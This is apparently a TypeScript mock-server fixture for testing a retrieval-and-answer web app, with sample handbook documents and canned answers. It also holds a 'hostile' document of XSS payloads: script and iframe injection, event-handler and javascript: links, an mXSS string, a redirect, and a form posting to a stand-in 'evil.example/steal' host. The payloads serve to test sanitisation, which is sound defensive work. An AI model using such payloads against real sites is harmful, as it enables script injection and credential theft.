// The data of the mock server: a few documents, and answers to questions that
// name the tested behavior.
import type { ChunkRow, DocumentRow, Hit, RagDoc, RagMessage, RagSentence, Support } from '../../src/api/shapes';

export interface MockDocument {
  id: number;
  source: string;
  title: string;
  file_title?: string;
  media_type: string;
  text: string;
  status: DocumentRow['status'];
  error?: string;
  collection?: string;
  cited?: number;
  sha256?: string;
  updated_at?: string;
}

const bytes = (s: string) => Buffer.byteLength(s, 'utf8');

const filler = (name: string, n: number) =>
  Array.from({ length: n }, (_, i) => `${name} paragraph ${i + 1}. Größe — naïve — 日本語 — 😀. It says nothing of interest, at some length, so that a passage has to be looked for.`).join('\n\n');

const backup = `Backups

docent keeps everything in one database. A backup is a copy of that database: run docent backup FILE while it serves, and nothing is stopped or lost. Größere Sammlungen — über 10 GB 😀 — take a few minutes.

Restoring

To restore, stop the server and run docent restore FILE. The indexes are rebuilt from the database at the next start, so they are never part of a backup.`;

const install = `Installation

docent is one program without dependencies. Download it, make it executable and run docent serve; the page is at port 8765.

Configuration

Every setting is a flag, an environment variable or a line of the configuration file, in this order of precedence.`;

/** What a hostile document says; none of it may run, load or submit anything. */
export const hostile = `<script>window.__pwned = 'script'</script>
<img src=x onerror="window.__pwned='img'">
<svg onload="window.__pwned='svg'"><a href="javascript:window.__pwned='svglink'">x</a></svg>
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<form action="https://evil.example/steal"><input name=a><button>Sign in</button></form>
![pixel](https://evil.example/pixel.png) ![p](//evil.example/p.png)
[click](javascript:window.__pwned='link') [data](data:text/html,<script>1</script>) [rel](/api/sessions)
[1]: https://evil.example/ "title"
[1](https://evil.example/cite) <style>*{display:none}</style>
<a href="https://evil.example" onclick="window.__pwned='click'">a</a>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned='mxss'&gt;">`;

export const documents = (): MockDocument[] => [
  { id: 1, source: '/srv/handbook/operations/backup.md', title: 'Backups', media_type: 'text/markdown', text: `${filler('First', 120)}\n\n${backup}\n\n${filler('Last', 120)}`, status: 'ready' },
  { id: 2, source: '/srv/handbook/install.md', title: 'Installing docent', media_type: 'text/markdown', text: install, status: 'ready' },
  { id: 3, source: 'upload:Quarterly report.pdf', title: 'Quarterly report', media_type: 'application/pdf', text: 'Revenue grew by 12 % in the second quarter, driven by the new region. Costs stayed flat.', status: 'ready' },
  { id: 4, source: '/srv/handbook/secret.pdf', title: '', media_type: 'application/pdf', text: '', status: 'failed', error: 'The PDF is encrypted; remove its password and add it again.' },
  { id: 5, source: '/srv/handbook/hostile.html', title: '<img src=x onerror="window.__pwned=1">', media_type: 'text/html', text: hostile, status: 'ready' },
  { id: 6, source: '/srv/handbook/rtl.txt', title: 'מדריך למשתמש', media_type: 'text/plain', text: 'התוכנית עונה על שאלות מתוך המסמכים שלך.', status: 'ready' },
];

function passage(d: MockDocument, from: string, to: string, heading: string, page: number | null = null): RagDoc {
  const a = d.text.indexOf(from);
  const b = d.text.indexOf(to, a) + to.length;
  const content = d.text.slice(a, b);
  const start = bytes(d.text.slice(0, a));
  return {
    content,
    metadata: {
      source: d.source, page, page_label: page === null ? null : String(page + 1), title: d.title, heading,
      start, end: start + bytes(content), score: 0.8, document_id: d.id, chunk_id: d.id * 100,
    },
  };
}

function sentences(answer: string, marks: [string, Support, number[]][]): RagSentence[] {
  return marks.map(([text, support, docs]) => {
    const start = bytes(answer.slice(0, answer.indexOf(text)));
    return { start, end: start + bytes(text), docs, support };
  });
}

/** results are the passages that a search for "archive" finds. */
export function results(q: string | null): Hit[] {
  const [one, two] = documents() as [MockDocument, MockDocument];
  const found = q === 'archive' ? [passage(one, 'To restore', 'of a backup.', 'Operations › Restoring'), passage(two, 'docent is one program', 'port 8765.', 'Installation')] : [];
  return found.map(({ content, metadata: m }, i) => ({ ...m, rank: i + 1, score: 1, text: content, document_id: m.document_id!, chunk_id: m.chunk_id! }));
}

/** answer makes what the mock answers to a question. */
export function answer(question: string, docs: MockDocument[]): RagMessage {
  const [one, two, three, , five] = docs as [MockDocument, MockDocument, MockDocument, MockDocument, MockDocument];
  const found = [
    passage(one, 'docent keeps everything', 'few minutes.', 'Operations › Backups'),
    passage(one, 'To restore', 'of a backup.', 'Operations › Restoring'),
    passage(two, 'docent is one program', 'port 8765.', 'Installation'),
    passage(three, 'Revenue grew', 'stayed flat.', '', 11),
  ];
  const base = { llm_name: 'gpt-4o-mini', question, docs: found, sentences: [] as RagSentence[], abstained: false };
  if (/unknown/.test(question)) {
    return { ...base, answer: 'I don’t know. The documents do not say anything about that.', abstained: true };
  }
  if (/cheapest/.test(question)) {
    const cell = (text: string) => ({ start: bytes(two.text.slice(0, two.text.indexOf(text))), end: bytes(two.text.slice(0, two.text.indexOf(text) + text.length)) });
    const marked = { ...found[2]!, metadata: { ...found[2]!.metadata, cells: [cell('one program'), cell('8765')] } };
    return { ...base, answer: 'The lowest price is 8765 [1].', docs: [marked], queries: ['SELECT "Name", "Price" FROM "prices.csv" ORDER BY "Price" ASC LIMIT 1'] };
  }
  if (/hostile/.test(question)) {
    return { ...base, answer: `Quoted [1]: ${hostile}\n\nAnd more [2] [99].`, docs: [passage(five, '<script>', "'script'</script>", '"><img src=x onerror=window.__pwned=2>'), found[0]!] };
  }
  if (/long/.test(question)) {
    return { ...base, answer: Array.from({ length: 30 }, (_, i) => `Paragraph ${i + 1} of a long answer, which goes on for a while so that it does not fit the window [1].`).join('\n\n') };
  }
  if (/changed/.test(question)) {
    const gone = { ...found[0]!, content: 'A passage that the document does not contain any more.' };
    return { ...base, answer: 'It used to say so [1].', docs: [gone] };
  }
  const text = `A backup is a **copy of the database**, made while docent serves [1]. You may see this:

1. Run \`docent backup FILE\`; nothing is stopped [1].
2. To restore, stop the server and run \`docent restore FILE\` [2].

Indexes are not part of it, because they are rebuilt at the next start [2]. Größere Sammlungen 😀 take about an hour [1]. Most teams do this every night.

| Command | What it does |
| --- | --- |
| \`docent backup\` | writes a copy [1] |
| \`docent restore\` | reads it back [2] |`;
  return {
    ...base,
    answer: text,
    sentences: sentences(text, [
      ['A backup is a **copy of the database**, made while docent serves [1].', 'strong', [1]],
      ['Größere Sammlungen 😀 take about an hour [1].', 'weak', [1]],
      ['Most teams do this every night.', 'none', []],
    ]),
  };
}

/** outlineOf adds the neighbors of a document to its outline. */
export function outlineOf<T>(outline: T, documents: MockDocument[], id: number) {
  const at = documents.findIndex((d) => d.id === id);
  const beside = (d: MockDocument | undefined) => d && { id: d.id, title: d.title };
  return { ...outline, previous: beside(documents[at - 1]), next: at < 0 ? undefined : beside(documents[at + 1]) };
}

/** rowOf returns a document as the API lists it. */
export function rowOf(d: MockDocument): DocumentRow {
  const { text, ...rest } = d;
  return { collection: 'default', language: 'en', size: bytes(text), sha256: String(d.id), chunks: d.status === 'failed' ? 0 : 7, created_at: '2026-03-01T10:00:00Z', updated_at: '2026-03-02T10:00:00Z', ...rest };
}

/** renamed changes the title of a document. */
export function renamed(d: MockDocument, title: string): DocumentRow {
  const stated = d.file_title ?? d.title;
  d.title = title || stated;
  if (title) d.file_title = stated;
  else delete d.file_title;
  return rowOf(d);
}

/** chunksOf returns the passages of a document: its paragraphs. */
export function chunksOf(d: MockDocument): ChunkRow[] {
  let start = 0;
  return d.text.split(/(?<=\n\n)/).map((text, ordinal) => {
    const end = start + Buffer.byteLength(text);
    const row: ChunkRow = { id: d.id * 100 + ordinal, ordinal, kind: 'prose', text, heading: '', page: null, page_label: null, start, end, tokens: Math.ceil(text.length / 4) };
    start = end;
    return row;
  });
}
